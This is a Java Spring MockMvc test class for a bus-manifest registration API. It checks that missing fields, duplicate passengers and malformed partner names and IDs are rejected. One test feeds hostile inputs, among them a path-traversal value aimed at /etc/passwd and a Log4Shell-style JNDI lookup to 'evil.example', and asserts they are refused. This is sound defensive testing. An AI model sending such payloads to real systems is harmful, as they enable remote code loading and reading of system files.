package org.homecoming.transport.manifests;

import org.homecoming.platform.security.Roles;
import java.time.Instant;
import java.util.List;

import org.homecoming.events.transport.BusManifestRegistered;
import org.homecoming.platform.web.InvalidRequestException;
import org.homecoming.platform.web.WebInputRules;
import org.homecoming.platform.web.Violation;
import org.junit.jupiter.api.Test;
import org.mockito.ArgumentCaptor;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.WebMvcTest;
import org.springframework.context.annotation.Import;
import org.springframework.http.MediaType;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.context.bean.override.mockito.MockitoBean;
import org.springframework.test.web.servlet.MockMvc;

import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;
import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.when;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

@WithMockUser(username = "transport-officer-1", roles = {Roles.TRANSPORT_OFFICER, Roles.RECEPTION_STAFF})
@WebMvcTest(ManifestController.class)
@Import(WebInputRules.class)
class ManifestControllerTest {

    static final String VALID = """
            {"busId": "bus-1", "roundId": "round-1", "personIds": ["p-1", "p-2"],
             "origin": "gomel-assembly-point", "receptionPoint": "chernihiv-reception-point"}""";

    @Autowired
    MockMvc mvc;
    @MockitoBean
    ManifestRegistration registration;

    @Test
    void shouldAnswerProblemJsonNamingEveryMissingFieldWithoutRegistering() throws Exception {
        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content("""
                        {"busId": " ", "personIds": ["p-1", ""], "origin": "gomel-assembly-point"}"""))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("busId", "roundId", "personIds[1]", "receptionPoint")));

        verify(registration, never()).register(any());
    }

    @Test
    void shouldAnswerCreatedWhenPublishedAndOkWhenTheSameManifestWasRegistered() throws Exception {
        BusManifestRegistered manifest = BusManifestRegistered.newBuilder().setBusId("bus-1").setRoundId("round-1")
                .setPersonIds(List.of("p-1", "p-2")).setOrigin("gomel-assembly-point").setReceptionPoint("chernihiv-reception-point")
                .setRegisteredAt(Instant.parse("2026-11-20T05:00:00Z")).build();
        when(registration.register(any())).thenReturn(new ManifestRegistration.Registered(manifest, true),
                new ManifestRegistration.Registered(manifest, false));

        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content(VALID))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.personIds", hasSize(2)))
                .andExpect(jsonPath("$.published").value(true));
        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content(VALID))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.published").value(false));
    }

    @Test
    void shouldListEveryBadPersonTheRegistrationFound() throws Exception {
        when(registration.register(any())).thenThrow(new InvalidRequestException("The manifest has 2 problem(s)", List.of(
                Violation.of("personIds[0]", "person p-1 was withdrawn from the release list"),
                Violation.of("personIds[1]", "person p-2 already rides bus bus-7 in round round-1"))));

        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content(VALID))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors", hasSize(2)))
                .andExpect(jsonPath("$.errors[1].reason").value("person p-2 already rides bus bus-7 in round round-1"));
    }

    @Test
    void shouldRefuseATrackingPartnerThatIsNoPartnerName() throws Exception {
        for (String trackedBy : List.of("../partner-b", "partner-a-dlt", "partner.a", "p".repeat(65), "")) {
            mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content("""
                            {"busId": "bus-1", "roundId": "round-1", "personIds": ["p-1"], "origin": "gomel-assembly-point",
                             "receptionPoint": "chernihiv-reception-point", "trackedBy": "%s"}""".formatted(trackedBy)))
                    .andExpect(status().isBadRequest())
                    .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                    .andExpect(jsonPath("$.errors[*].field", hasItem("trackedBy")));
        }

        verify(registration, never()).register(any());
    }

    @Test
    void shouldRegisterTheTrackingPartnerItWasGiven() throws Exception {
        BusManifestRegistered manifest = BusManifestRegistered.newBuilder().setBusId("bus-1").setRoundId("round-1")
                .setPersonIds(List.of("p-1")).setOrigin("gomel-assembly-point").setReceptionPoint("chernihiv-reception-point")
                .setRegisteredAt(Instant.parse("2026-11-20T05:00:00Z")).setTrackedBy("partner-a").build();
        when(registration.register(any())).thenReturn(new ManifestRegistration.Registered(manifest, true));

        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content("""
                        {"busId": "bus-1", "roundId": "round-1", "personIds": ["p-1"], "origin": "gomel-assembly-point",
                         "receptionPoint": "chernihiv-reception-point", "trackedBy": "partner-a"}"""))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.trackedBy").value("partner-a"));

        ArgumentCaptor<ManifestRequest> registered = ArgumentCaptor.forClass(ManifestRequest.class);
        verify(registration).register(registered.capture());
        assertThat(registered.getValue().trackedBy()).isEqualTo("partner-a");
    }

    @Test
    void shouldRefuseIdsThatAreNoIds() throws Exception {
        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content("""
                        {"busId": "../../etc/passwd", "roundId": "round-1", "personIds": ["p-1\u200B", "%s"],
                         "origin": "gomel-assembly-point", "receptionPoint": "${jndi:ldap://evil.example/a}"}""".formatted("p".repeat(10_000))))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("busId", "personIds[0]", "personIds[1]", "receptionPoint")));

        verify(registration, never()).register(any());
    }
}
